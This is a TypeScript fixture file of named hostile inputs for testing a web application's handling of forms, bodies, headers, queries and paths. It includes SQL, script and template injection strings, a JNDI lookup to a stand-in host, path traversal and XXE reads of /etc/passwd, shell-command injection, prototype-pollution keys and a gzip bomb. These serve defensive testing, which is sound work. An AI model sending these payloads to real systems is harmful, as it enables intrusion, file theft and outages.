/** What an attacker types, sends and asks for. Each has the name of the attack. */

/** In the place of every text: of a form, of a call, of a query. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  NUL: 'a\0b',
  'lone surrogate': 'a\uD800b',
  CRLF: 'a\r\nset-cookie: evil=1\r\n\r\n<b>',
  'right-to-left override': 'a\u202Egpj.exe',
  'zero-width characters': '\u200B\u200D\uFEFF',
  'stacked accents': `Z${'\u0300'.repeat(2000)}`,
  'control characters': '\u0001\u001B[31m\u007F\u0085',
  'line separators': 'a\u2028b\u2029c',
  'highest code point': '\u{10FFFF}',
  'SQL quotes': `'; drop table "user"; -- `,
  'SQL of a union': `1' or '1'='1' union select token from session--`,
  'operator of a document store': '{"$ne":1}',
  'template injection': '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  script: `"><script>alert(1)</script><img src=x onerror=alert(1)>`,
  'script address': 'javascript:alert(1)',
  'log injection': '${jndi:ldap://evil.test/a}',
  'path traversal': '../../../../etc/passwd',
  'encoded path traversal': '..%2f..%2f%00',
  'name of a prototype': '__proto__',
  'name of a constructor': 'constructor.prototype',
  'shell command': '$(sleep 9);`sleep 9`|sleep 9',
  'negative number': '-1',
  'not a number': 'NaN',
  'huge number': '1e309',
  'number beyond the safe ones': '99999999999999999999',
  empty: '',
  blank: '   \t ',
  'ten thousand characters': 'x'.repeat(10_000),
  'many at signs': '@'.repeat(300),
  'slow pattern': `${'a'.repeat(50)}@${'a.'.repeat(100)}!`,
}

type Body = { type: string | null; headers?: Readonly<Record<string, string>>; body: string | Buffer }

const JSON_TYPE = 'application/json'
const FORM_TYPE = 'application/x-www-form-urlencoded'
const MANY = 5000

/** In the place of a whole body. */
export const HOSTILE_BODIES: Readonly<Record<string, Body>> = {
  'nothing as JSON': { type: JSON_TYPE, body: '' },
  'nothing as a form': { type: FORM_TYPE, body: '' },
  'no type': { type: null, body: 'email=a' },
  'JSON cut off': { type: JSON_TYPE, body: '{"email":"a' },
  'JSON that is null': { type: JSON_TYPE, body: 'null' },
  'JSON that is a number': { type: JSON_TYPE, body: '1e309' },
  'JSON that is a list': { type: JSON_TYPE, body: '[[[]],{"email":["a"]}]' },
  'lists for texts': { type: JSON_TYPE, body: '{"email":["a@b.test"],"password":[],"name":{},"token":[null]}' },
  'objects for texts': { type: JSON_TYPE, body: '{"email":{"$ne":1},"password":{"$gt":""},"token":{"$regex":".*"},"newPassword":true}' },
  'names of prototypes': { type: JSON_TYPE, body: '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}' },
  'an escaped name of a prototype': { type: JSON_TYPE, body: '{"\\u005f_proto__":{"isAdmin":true}}' },
  'one name twice': { type: JSON_TYPE, body: '{"email":"a@b.test","email":["c@d.test"],"password":"x"}' },
  '200,000 levels of lists': { type: JSON_TYPE, body: '['.repeat(200_000) },
  '200,000 levels of objects': { type: JSON_TYPE, body: '{"a":'.repeat(200_000) },
  'more names than a page has': {
    type: JSON_TYPE,
    body: JSON.stringify(Object.fromEntries(Array.from({ length: MANY }, (_, at) => [`k${at}`, at]))),
  },
  'a framework’s payload of unknown kinds': {
    type: JSON_TYPE,
    body: '{"t":{"t":99,"i":0,"s":"x","p":{"k":["data"],"v":[]}},"f":63,"m":[]}',
  },
  'a framework’s payload that refers to itself': {
    type: JSON_TYPE,
    body: '{"t":{"t":10,"i":0,"p":{"k":["data"],"v":[{"t":4,"i":0}]},"o":0},"f":63,"m":[]}',
  },
  'a framework’s payload with a prototype': {
    type: JSON_TYPE,
    body: '{"t":{"t":10,"i":0,"p":{"k":["__proto__","data"],"v":[{"t":1,"s":"x"},{"t":1,"s":"y"}]},"o":0},"f":63,"m":[]}',
  },
  'invalid UTF-8': { type: JSON_TYPE, body: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0xc0, 0x80, 0x22, 0x3a, 0x31, 0x7d]) },
  'invalid UTF-8 in a form': { type: FORM_TYPE, body: Buffer.from([0x65, 0x6d, 0x61, 0x69, 0x6c, 0x3d, 0xff, 0xfe, 0xed, 0xa0, 0x80]) },
  'a form with half a character': { type: FORM_TYPE, body: 'email=%ED%A0%80&token=%ED%BF%BF&name=%C0%80&act=%' },
  'a form with one name many times': { type: FORM_TYPE, body: `${'email=a%40b.test&'.repeat(MANY / 10)}email[]=x&email[$ne]=1` },
  'a form with names of prototypes': { type: FORM_TYPE, body: '__proto__=x&__proto__[isAdmin]=1&constructor=x&toString=y' },
  'a form of names without values': { type: FORM_TYPE, body: '&&&===&a&=b&%00=%00' },
  'multipart without a boundary': { type: 'multipart/form-data', body: '--x\r\n\r\n' },
  'multipart that never ends': { type: 'multipart/form-data; boundary=x', body: '--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n' },
  'a multipart context of lists': {
    type: 'multipart/form-data; boundary=x',
    body: `--x\r\ncontent-disposition: form-data; name="__TSS_CONTEXT"\r\n\r\n${'['.repeat(200_000)}\r\n--x--\r\n`,
  },
  'XML with an entity': { type: 'application/xml', body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' },
  'a type that is none': { type: ';;;=/', body: '{}' },
  'a character set that is none': { type: 'application/json; charset=utf-99', body: '{}' },
  'a zip bomb’s encoding': {
    type: JSON_TYPE,
    headers: { 'content-encoding': 'gzip' },
    body: Buffer.from('1f8b0800000000000003edc101', 'hex'),
  },
  'more than the limit of a body': { type: FORM_TYPE, body: `password=${'x'.repeat(1024 * 1024 + 1)}` },
  'more than the limit of a call': { type: JSON_TYPE, body: `"${'x'.repeat(200 * 1024)}"` },
}

/** In the place of headers, on any address. */
export const HOSTILE_HEADERS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'a cookie of 12 KB': { cookie: `gatehouse.session_token=${'x'.repeat(12_000)}` },
  'a thousand cookies': { cookie: Array.from({ length: 1000 }, (_, at) => `c${at}=1`).join('; ') },
  'cookies that cannot be decoded': {
    cookie: 'gatehouse.session_token=%E0%A4%A; gatehouse.form=%%%; gatehouse.pending=e30; theme=%; gatehouse.locale=%00; =x; ;;',
  },
  'cookies of other shapes': {
    cookie: `gatehouse.form=${base64url('{"path":{},"refusal":[]}')}; gatehouse.pending=${base64url('null')}; gatehouse.two_factor=[]`,
  },
  'a header of 14 KB': { 'x-anything': 'x'.repeat(14_000) },
  'languages without end': { 'accept-language': 'de;q=NaN,*;q=9e9,'.repeat(300) },
  'addresses that are none': { 'x-forwarded-for': `${'1,'.repeat(500)}not an address`, forwarded: 'for="[::"', 'x-real-ip': '%00' },
  'an address with a port and a zone': { 'x-forwarded-for': '[fe80::1%25eth0]:99999' },
  'another host': { host: 'evil.test', 'x-forwarded-host': 'evil.test', 'x-forwarded-proto': 'gopher' },
  'a host that is none': { host: 'a b' },
  'a host with a port that is none': { host: 'localhost:99999' },
  'an origin that is none': { origin: 'x'.repeat(3000), referer: 'http://[', 'sec-fetch-site': 'none; x' },
  'an answer in no known form': { accept: `${'a/b;q=2,'.repeat(200)}*/*` },
  'a range that is none': { range: 'bytes=99999999999999999999-,-1,a' },
  'an upgrade': { connection: 'upgrade', upgrade: 'h2c' },
  'an expectation': { expect: '200-ok' },
  'another verb in a header': { 'x-http-method-override': 'DELETE', 'x-tsr-serverfn': 'junk', 'x-tsr-createserverfn': '__proto__' },
}

/** Behind the path, as it goes over the wire. */
export const HOSTILE_QUERIES: Readonly<Record<string, string>> = {
  'bad percent-encoding': '?redirect=%&token=%E0%A4%A&%=%',
  'encoded NUL and line breaks': '?redirect=%00&token=%0d%0aset-cookie:%20a=b&page=%0a',
  'bytes that are no UTF-8': '?redirect=%ff%fe&token=%c0%80&payload=%ff',
  'names of prototypes': '?__proto__[a]=1&constructor[prototype][a]=1&__proto__=x',
  'lists and objects': '?token=%5B1%2C2%5D&redirect=%7B%22a%22%3A1%7D&page=%5B%5D&sort[]=a&days=%7B%22%24ne%22%3A1%7D',
  'numbers beyond any': '?page=1e309&days=-1&page=NaN&days=99999999999999999999',
  'one name five hundred times': `?${'token=a&'.repeat(500)}`,
  '200 levels of a payload': `?payload=${'%5B'.repeat(200)}`,
  '8 KB': `?token=${'x'.repeat(8000)}`,
  'a question in a question': '?redirect=/app?redirect=//evil.test??&&==#x',
}

/** Behind the path, before the query. */
export const HOSTILE_SUFFIXES: Readonly<Record<string, string>> = {
  'bad percent-encoding': '/%',
  'half a percent-encoding': '/%E0%A4%A',
  'encoded NUL': '/%00',
  'encoded slashes': '/..%2f..%2f..%2fetc/passwd',
  'encoded backslash': '/%5c%5cevil.test',
  'dot segments': '/../../../../etc/passwd',
  'semicolons and spaces': ';a=b/%20%09',
  'a file’s ending': '/a.js',
  'bytes that are no UTF-8': '/%ff%fe',
  '6 KB': `/${'a'.repeat(6000)}`,
}

function base64url(text: string): string {
  return Buffer.from(text).toString('base64url')
}
